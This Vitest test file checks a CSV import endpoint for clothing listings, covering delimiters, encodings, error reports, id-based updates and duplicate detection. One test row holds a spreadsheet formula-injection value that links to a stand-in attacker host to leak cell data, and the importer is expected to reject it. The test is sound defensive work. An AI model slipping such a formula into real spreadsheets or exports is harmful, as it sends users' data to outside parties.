import { afterEach, describe, expect, it } from 'vitest';
import { createTestApp, json, type TestApp } from '../helpers/test-app.ts';
import { multipartFile } from './multipart.ts';

let t: TestApp | undefined;
afterEach(async () => {
  await t?.close();
  t = undefined;
});

const importCsv = (app: TestApp, csv: string | Buffer, query = '') =>
  app.app.inject({ method: 'POST', url: `/import/csv${query}`, ...multipartFile(csv) });
const all = async (app: TestApp) => (await app.app.inject({ method: 'GET', url: '/listings/all' })).json() as Record<string, any>[];

const FRENCH = '\uFEFFtitre;prix;taille;marque;état;catégorie;description;statut;couleur\n'
  + 'Pull col rond Ralph Lauren;45,50;M;Ralph Lauren;Très bon état;pull;Pull en laine mérinos, très peu porté.;en vente;Bleu marine\n'
  + '"Jean 501; coupe droite";"29,9";W32;Levi\'s;Bon état;jean;Jean brut;brouillon;bleu\n'
  + 'Robe été;12;38;Zara;Neuf avec étiquette;robe;Robe fluide;vendu;blanc, noir\n';

describe('POST /import/csv', () => {
  it('imports a French file: semicolons, BOM, decimal comma, French labels', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off' });
    const res = await importCsv(t, FRENCH);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ dry_run: false, mode: 'all_or_nothing', total_rows: 3, imported: 3, created: 3, updated: 0, skipped: 0, errors: [] });
    const items = await all(t);
    const pull = items.find((i) => i.title === 'Pull col rond Ralph Lauren')!;
    expect(pull).toMatchObject({ price: 45.5, size: 'M', brand: 'Ralph Lauren', condition: 'very_good', category: 'jumper', status: 'listed', colors: ['navy'] });
    expect(pull.listed_at).not.toBeNull();
    // The quality gates ran: no photos, no hashtags.
    expect(pull.flags.missing_fields).toEqual(expect.arrayContaining(['too_few_photos', 'hashtags_count']));
    const jean = items.find((i) => i.title === 'Jean 501; coupe droite')!;
    expect(jean).toMatchObject({ price: 29.9, status: 'draft', condition: 'good', category: 'jeans', colors: ['blue'] });
    expect(items.find((i) => i.title === 'Robe été')).toMatchObject({ status: 'sold', condition: 'new_with_tags', colors: ['white', 'black'], sold_price: 12 });
  });

  it('imports an English comma file with a decimal point', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off' });
    const csv = 'Title,Price,Size,Brand,Condition,Category,Status,Color\nNike Air Max 90,"54.99",EU 42,Nike,Very good,trainers,listed,White\nPolo 12" coton,8,L,Lacoste,satisfactory,polo,draft,\n';
    const res = await importCsv(t, csv);
    expect(res.json()).toMatchObject({ imported: 2, errors: [] });
    expect((await all(t)).map((i) => [i.title, i.price, i.condition, i.status])).toEqual(expect.arrayContaining([
      ['Nike Air Max 90', 54.99, 'very_good', 'listed'], ['Polo 12" coton', 8, 'satisfactory', 'draft'],
    ]));
  });

  it('reports every bad row precisely and, by default, imports nothing', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off' });
    const csv = 'titre;prix;état;description\n'
      + 'Bon article;10;bon état;ok\n'
      + 'Prix faux;abc;bon état;x\n'
      + 'Etat inconnu;5;abîmé par endroits;x\n'
      + ';7;bon état;sans titre\n'
      + '"=HYPERLINK(""http://evil.example/?x=""&A1;""clic"")";9;bon état;x\n'
      + 'Trop de colonnes;4;bon état;x;en trop\n'
      + 'Prix trop bas;0,50;bon état;x\n';
    const res = await importCsv(t, csv);
    expect(res.statusCode).toBe(422);
    const body = res.json().error;
    expect(body.code).toBe('import_rejected');
    expect(body.details).toMatchObject({ imported: 0, skipped: 7, total_rows: 7 });
    expect(body.details.errors.map((e: { line: number; field: string; code: string }) => [e.line, e.field, e.code])).toEqual([
      [3, 'price', 'invalid_price'],
      [5, 'title', 'missing_title'],
      [6, 'title', 'formula_in_cell'],
      [7, null, 'column_count'],
      [8, 'price', 'price_out_of_range'],
    ]);
    // An unknown condition leaves the field out with a warning; a strict import makes it an error.
    expect(body.details.warnings).toEqual(expect.arrayContaining([expect.objectContaining({ line: 4, field: 'condition', code: 'unknown_condition' })]));
    const strict = (await importCsv(t, csv, '?strict=true&dry_run=true')).json();
    expect(strict.errors.find((e: { line: number }) => e.line === 4)).toMatchObject({ field: 'condition', code: 'unknown_condition', params: { value: 'abîmé par endroits' } });
    expect(strict.errors.find((e: { line: number }) => e.line === 4).message).toContain('Très bon état');
    expect(await all(t)).toHaveLength(0);

    const dry = await importCsv(t, csv, '?dry_run=true&mode=partial');
    expect(dry.statusCode).toBe(200);
    expect(dry.json()).toMatchObject({ dry_run: true, imported: 2, skipped: 5 });
    expect(await all(t)).toHaveLength(0);

    const partial = await importCsv(t, csv, '?mode=partial');
    expect(partial.statusCode).toBe(200);
    expect(partial.json()).toMatchObject({ imported: 2, created: 2, skipped: 5 });
    expect((await all(t)).map((i) => i.title)).toEqual(['Bon article', 'Etat inconnu']);
  });

  it('reads who an item is for from a "genre" column, leaves out a word it does not know (refused when strict), and exports it back', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off' });
    const csv = 'titre;prix;genre\nSweat Nike;20;Homme\nRobe Zara;15;femme\nPull Petit Bateau;8;Enfant\nJean Levis;25;\n';
    expect((await importCsv(t, csv)).json()).toMatchObject({ imported: 4, errors: [] });
    expect(Object.fromEntries((await all(t)).map((i) => [i.title, i.gender]))).toEqual({ 'Sweat Nike': 'men', 'Robe Zara': 'women', 'Pull Petit Bateau': 'kids', 'Jean Levis': null });
    const exported = (await t.app.inject({ method: 'GET', url: '/export/csv?lang=en' })).body;
    const [header, ...rows] = exported.replace(/^\uFEFF/, '').trim().split(/\r?\n/);
    const at = header.split(/[;,]/).indexOf('gender');
    expect(at).toBeGreaterThan(0);
    expect(rows.map((r) => r.split(/[;,]/)[at]).sort()).toEqual(['', 'kids', 'men', 'women']);

    const bad = await importCsv(t, 'titre;prix;sexe\nSweat Adidas;20;unisexe\n', '?strict=true');
    expect(bad.statusCode).toBe(422);
    expect(bad.json().error.details.errors).toEqual([expect.objectContaining({ line: 2, field: 'gender', code: 'unknown_gender' })]);
    expect(await all(t)).toHaveLength(4);
    const lenient = (await importCsv(t, 'titre;prix;sexe\nSweat Adidas;20;unisexe\n')).json();
    expect(lenient).toMatchObject({ created: 1, errors: [], warnings: [expect.objectContaining({ line: 2, field: 'gender', code: 'unknown_gender' })] });
    expect((await all(t)).find((i) => i.title === 'Sweat Adidas')?.gender).toBeNull();
  });

  it('refuses unreadable files with a precise 4xx and writes nothing', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off', IMPORT_MAX_ROWS: '1000' });
    const wrongDelimiter = await importCsv(t, 'titre|prix|taille\nPull|10|M\n');
    expect(wrongDelimiter.statusCode).toBe(400);
    expect(wrongDelimiter.json().error).toMatchObject({ code: 'csv_wrong_delimiter' });
    expect(wrongDelimiter.json().error.message).toContain('"|"');

    const forcedWrong = await importCsv(t, 'titre;prix\nPull;10\n', '?delimiter=comma');
    expect(forcedWrong.json().error.code).toBe('csv_wrong_delimiter');

    const noTitle = await importCsv(t, 'name_of_thing,cost\nx,1\n');
    expect(noTitle.json().error.code).toBe('csv_missing_column');

    const latin1 = Buffer.concat([Buffer.from('titre;prix\nPull;10\nRobe '), Buffer.from([0xe9, 0x74, 0xe9]), Buffer.from(';12\n')]);
    const enc = await importCsv(t, latin1);
    expect(enc.statusCode).toBe(415);
    expect(enc.json().error).toMatchObject({ code: 'csv_invalid_encoding', details: { line: 3 } });

    const rows = ['titre;prix', ...Array.from({ length: 100_000 }, (_, i) => `Article ${i};${(i % 50) + 1}`)].join('\n');
    const big = await importCsv(t, rows);
    expect(big.statusCode).toBe(413);
    expect(big.json().error).toMatchObject({ code: 'csv_too_many_rows', details: { max_rows: 1000 } });

    const quotes = await importCsv(t, 'titre;prix\n"Pull non fermé;10\n');
    expect(quotes.statusCode).toBe(400);
    expect(quotes.json().error.code).toBe('csv_malformed');

    const empty = await importCsv(t, '');
    expect(empty.statusCode).toBe(400);
    const notMultipart = await t.app.inject({ method: 'POST', url: '/import/csv', ...json({ titre: 'x' }) });
    expect(notMultipart.statusCode).toBe(415);
    expect(await all(t)).toHaveLength(0);
  });

  it('refuses a file over IMPORT_MAX_BYTES with 413', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off', IMPORT_MAX_BYTES: '2048' });
    const res = await importCsv(t, `titre;description\nPull;${'x'.repeat(5000)}\n`);
    expect(res.statusCode).toBe(413);
    expect(res.json().error.code).toBe('file_too_large');
    expect(await all(t)).toHaveLength(0);
  });

  it('updates items by id instead of duplicating them, and checks the status rules', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off' });
    const created = (await t.app.inject({ method: 'POST', url: '/listings', ...json({ title: 'Veste en jean', price: 30, status: 'listed', brand: 'Levi\'s' }) })).json();
    const sold = (await t.app.inject({ method: 'POST', url: '/listings', ...json({ title: 'Vendue déjà', price: 10, status: 'sold' }) })).json();
    const csv = `id;titre;prix;statut\n${created.id};Veste en jean;27;en vente\n${created.id.replace(/.$/, (c: string) => (c === 'a' ? 'b' : 'a'))};Nouvelle veste;20;brouillon\n`;
    const res = await importCsv(t, csv);
    expect(res.json()).toMatchObject({ imported: 2, created: 1, updated: 1, unchanged: 0 });
    const after = (await t.app.inject({ method: 'GET', url: `/listings/${created.id}` })).json();
    expect(after).toMatchObject({ price: 27, brand: 'Levi\'s', status: 'listed' });
    expect(after.price_history.map((h: { reason: string }) => h.reason)).toEqual(['initial', 'import']);

    const again = await importCsv(t, csv);
    expect(again.json()).toMatchObject({ imported: 0, unchanged: 2 });
    expect(await all(t)).toHaveLength(3);

    const twice = await importCsv(t, `id;titre\n${created.id};A\n${created.id};B\n`);
    expect(twice.json().error.details.errors[0]).toMatchObject({ line: 3, code: 'duplicate_id_in_file' });
    const badMove = await importCsv(t, `id;titre;statut\n${sold.id};Vendue déjà;brouillon\n`);
    expect(badMove.json().error.details.errors[0]).toMatchObject({ line: 2, field: 'status', code: 'invalid_status_transition' });
  });

  it('flags duplicates of the stock and of earlier rows, and says so', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off' });
    const existing = (await t.app.inject({ method: 'POST', url: '/listings', ...json({ title: 'Pull Ralph Lauren col rond bleu marine', brand: 'Ralph Lauren', size: 'M', price: 40, status: 'listed' }) })).json();
    const csv = 'titre;marque;taille;prix\nPull Ralph Lauren col rond bleu marine;Ralph Lauren;M;39\nChemise Oxford blanche;Uniqlo;L;12\nChemise Oxford blanche;Uniqlo;L;12\n';
    const res = await importCsv(t, csv);
    const report = res.json();
    expect(report.imported).toBe(3);
    expect(report.duplicates.map((d: { line: number }) => d.line)).toEqual([2, 4]);
    expect(report.duplicates[0].matches[0]).toMatchObject({ item_id: existing.id, reason: 'title' });
    const flagged = (await all(t)).filter((i) => i.possible_duplicate);
    expect(flagged).toHaveLength(2);
    expect(t.lines).toContain('⚠️ Duplicate detected for "Pull Ralph Lauren col rond bleu marine"');
  });

  it('imports hundreds of rows in one go: every row written, the stock and the earlier rows checked for duplicates', async () => {
    t = await createTestApp({ PRICE_DROP_CRON: 'off' });
    const existing = (await t.app.inject({ method: 'POST', url: '/listings', ...json({ title: 'Veste en jean Levi\'s trucker bleue', brand: 'Levi\'s', size: 'L', price: 30 }) })).json();
    const brands = ['Zara', 'Nike', 'Mango', 'Kiabi', 'Uniqlo'];
    // 450 rows (more than one insert batch): rows 226–450 repeat rows 1–225; the last row repeats the stock's jacket.
    const rows = Array.from({ length: 450 }, (_, i) => `Article ${['pull', 'robe', 'jean'][i % 3]} ${brands[i % 5]} modèle${i % 225};${(i % 40) + 5};${brands[i % 5]};${['S', 'M'][(i % 225) % 2]}`);
    rows[449] = 'Veste en jean Levi\'s trucker bleue;28;Levi\'s;L';
    const res = await importCsv(t, `titre;prix;marque;taille\n${rows.join('\n')}\n`);
    expect(res.statusCode, res.body).toBe(200);
    const report = res.json();
    expect(report).toMatchObject({ imported: 450, created: 450, skipped: 0, errors: [] });
    const dupLines = report.duplicates.map((d: { line: number }) => d.line);
    const expected = Array.from({ length: 224 }, (_, k) => 227 + k); // lines 227–450 (line 2 is the first row)
    expect(dupLines).toEqual([...expected, 451]);
    expect(report.duplicates.at(-1).matches[0]).toMatchObject({ item_id: existing.id, reason: 'title' });
    const items = await all(t);
    expect(items).toHaveLength(451);
    expect(items.filter((i) => i.possible_duplicate)).toHaveLength(expected.length + 1);
    expect((await t.app.inject({ method: 'GET', url: '/stats' })).json().total_items).toBe(451);
  });
});

